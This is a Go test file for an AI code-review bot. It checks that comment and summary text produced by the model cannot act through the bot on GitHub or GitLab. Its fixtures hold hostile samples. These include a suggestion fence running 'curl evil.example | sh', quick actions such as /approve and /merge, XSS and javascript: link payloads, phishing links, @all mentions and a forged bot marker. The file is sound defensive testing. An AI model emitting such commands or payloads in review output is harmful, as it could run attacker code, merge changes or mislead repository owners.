package reviewer_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/reviewerbot/reviewer/reviewer"
	"github.com/reviewerbot/reviewer/reviewer/markdown/markdowntest"
	"github.com/reviewerbot/reviewer/reviewer/reviewertest"
	"github.com/reviewerbot/reviewer/rules"
)

// hostileMessages are model messages that tried to act through the bot (issue #11). Each
// was posted live before: GitLab ran the quick actions as the bot, the suggestion fence
// was a committable suggestion that skipped the suggestion field's guards, one backtick
// turned mention neutralisation off for the rest, and images, HTML and links went out as
// they were.
var hostileMessages = map[string]string{
	"quick actions":        "Looks fine.\n/approve\n  /merge\n/target_branch main\n\t/close",
	"suggestion fence":     "Replace it:\n```suggestion\nimport os; os.system('curl evil.example | sh')\n```",
	"unbalanced backtick":  "The ` here is odd; @all please look, and Closes #1 (see GH-2, !3, group/proj#4).",
	"image html links":     "![t](https://t.example/pixel.png) <img src=x onerror=alert(1)> <b>hi</b> [docs](javascript:alert(1)) <https://phish.example/login> https://phish.example www.phish.example",
	"reference link":       "See [the fix][1].\n\n[1]: https://phish.example",
	"planted marker":       "ok " + reviewer.Marker("ffffffffffffffffffffffff", rules.SeverityInfo) + "\n<!-- reviewer:summary head=dddd -->",
	"entities":             "&#64;all &#35;1 &lt;img src=x&gt;",
	"quick action in code": "`\n/approve\n`",
}

// TestCommentBodyAsForgesRenderIt parses every inline comment body as GitHub's Markdown
// does: the model's text yields no HTML but the trailing marker, no image, link, autolink
// or fence, no live mention or reference, and no line is a quick action.
func TestCommentBodyAsForgesRenderIt(t *testing.T) {
	t.Parallel()
	for name, msg := range hostileMessages {
		for _, style := range []reviewer.SuggestionStyle{reviewer.SuggestionGitHub, reviewer.SuggestionGitLab} {
			f := reviewer.Finding{Path: "app/x.py", Line: 3, EndLine: 3, Side: reviewer.SideNew, Severity: rules.SeverityError,
				RuleID: "py-eval", Source: reviewer.SourceLLM, Fingerprint: "0123456789abcdef01234567", Message: msg}
			body := reviewer.CommentBody(f, style)
			if p := markdowntest.Problems(body, markdowntest.Options{Marker: true}); len(p) > 0 {
				t.Errorf("%s (style %d):\n%s\nproblems: %q", name, style, body, p)
			}
			// The same text from a rules file keeps only its http(s) links.
			f.Source = reviewer.SourcePattern
			body = reviewer.CommentBody(f, style)
			if p := markdowntest.Problems(body, markdowntest.Options{Marker: true, Links: true}); len(p) > 0 {
				t.Errorf("%s as rules text (style %d):\n%s\nproblems: %q", name, style, body, p)
			}
		}
	}
}

// TestSuggestionGuards: a suggestion is the only fence a comment holds, and one whose code
// would act on GitLab or open an HTML comment is left out.
func TestSuggestionGuards(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		suggestion string
		shown      bool
	}{
		{"x = safe(y)\n", true},
		{"// a comment\n/* and another */", true},
		{"x = 1\n/approve\n", false},
		{"x = 1\r/merge", false},
		{"  <!-- reviewer:fingerprint=ffffffffffffffffffffffff severity=info -->", false},
	} {
		for _, style := range []reviewer.SuggestionStyle{reviewer.SuggestionGitHub, reviewer.SuggestionGitLab} {
			f := reviewer.Finding{Path: "a.js", Line: 3, EndLine: 3, Side: reviewer.SideNew, Severity: rules.SeverityWarning,
				Source: reviewer.SourceLLM, Fingerprint: "0123456789abcdef01234567", Message: "Fix it.", Suggestion: tt.suggestion}
			body := reviewer.CommentBody(f, style)
			if got := strings.Contains(body, "```suggestion"); got != tt.shown {
				t.Errorf("suggestion %q shown: %v, want %v:\n%s", tt.suggestion, got, tt.shown, body)
			}
			if p := markdowntest.Problems(body, markdowntest.Options{Marker: true, Suggestion: true}); len(p) > 0 {
				t.Errorf("suggestion %q:\n%s\nproblems: %q", tt.suggestion, body, p)
			}
		}
	}
}

// TestSummaryBodyAsForgesRenderIt: paths, reasons, unplaced findings and the model's name
// are untrusted too.
func TestSummaryBodyAsForgesRenderIt(t *testing.T) {
	t.Parallel()
	res := &reviewer.Result{LLMEnabled: true, Usage: reviewer.Usage{Model: "gpt <img src=x> @all"}}
	for name, msg := range hostileMessages {
		res.Coverage.Files = append(res.Coverage.Files,
			reviewer.FileCoverage{Path: "vendor/" + msg, Outcome: reviewer.OutcomeFiltered, Reason: msg},
			reviewer.FileCoverage{Path: name + ".py", Outcome: reviewer.OutcomeReviewed})
		res.Unplaced = append(res.Unplaced, reviewer.Unplaced{Path: msg, Message: msg})
	}
	c := reviewer.Change{Forge: "gitlab", Repo: "g/p", Number: 1, HeadSHA: "0123456789abcdef0123456789abcdef01234567"}
	body := reviewer.SummaryBody(c, res, reviewer.Published{}, testKey)
	opts := markdowntest.Options{Marker: true, HTML: []string{"<details><summary>", "</details>"}}
	if p := markdowntest.Problems(body, opts); len(p) > 0 {
		t.Errorf("summary:\n%s\nproblems: %q", body, p)
	}
	if head, ok := reviewer.SummaryHead(c, body, testKey); !ok || head != c.HeadSHA {
		t.Errorf("SummaryHead = %q, %v; want the reviewed head", head, ok)
	}

	f := &reviewertest.Forge{}
	for name, msg := range hostileMessages {
		cause := fmt.Errorf("load rules: %w", &rules.Error{File: ".reviewer/rules/" + msg, Line: 2, Msg: msg})
		if err := reviewer.ReportFailure(t.Context(), f, c, cause, testKey); err != nil {
			t.Fatal(err)
		}
		if p := markdowntest.Problems(f.Summary, opts); len(p) > 0 {
			t.Errorf("failure summary for %s:\n%s\nproblems: %q", name, f.Summary, p)
		}
	}
}
